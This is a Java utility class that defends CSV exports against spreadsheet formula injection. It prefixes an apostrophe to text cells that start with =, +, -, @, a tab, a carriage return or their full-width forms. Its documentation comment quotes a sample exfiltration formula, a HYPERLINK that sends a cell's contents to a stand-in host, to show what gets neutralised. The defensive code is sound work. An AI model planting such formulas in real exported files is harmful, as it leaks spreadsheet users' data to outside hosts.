package org.seisaku.encode;

/**
 * Text cells of the CSV files the site publishes, made so that a spreadsheet shows them and never evaluates them
 * (OWASP "CSV Injection"): a cell that begins with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return (or the full-width ＝ ＋ － ＠, to be safe) gets a leading apostrophe, which spreadsheets read as "text
 * follows".
 *
 * <pre>
 *   =HYPERLINK("http://x/?"&amp;A1,"x") → '=HYPERLINK("http://x/?"&amp;A1,"x")
 *   @SUM(1+1), +1, -3億円, \t=1  → '@SUM(1+1), '+1, '-3億円, '\t=1
 *   地域おこし協力隊, 3.7億円    → unchanged
 * </pre>
 *
 * <p>Only text cells go through here: a number written by the program (an amount in yen, a year) is written as
 * the number, so that {@code -370000000} stays a number. Quoting of commas, quotes and line breaks is the CSV
 * printer's work, not this class's.
 */
public final class CsvCells {
  private CsvCells() {}

  /** The text, with a leading apostrophe when a spreadsheet would take it for a formula. */
  public static String text(String s) {
    if (s == null || s.isEmpty()) return s == null ? "" : s;
    return formulaLike(s.charAt(0)) ? "'" + s : s;
  }

  /**
   * A cell as {@link #text} wrote it, read back: {@code '=1} is {@code =1} (a budget CSV that seisaku wrote, a
   * draft of {@code import} or {@code data/budget.csv}, reads as it was meant); any other cell is unchanged.
   */
  public static String read(String cell) {
    return cell.length() > 1 && cell.charAt(0) == '\'' && formulaLike(cell.charAt(1)) ? cell.substring(1) : cell;
  }

  private static boolean formulaLike(char c) {
    return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r' || c == '＝' || c == '＋' || c == '－' || c == '＠';
  }
}
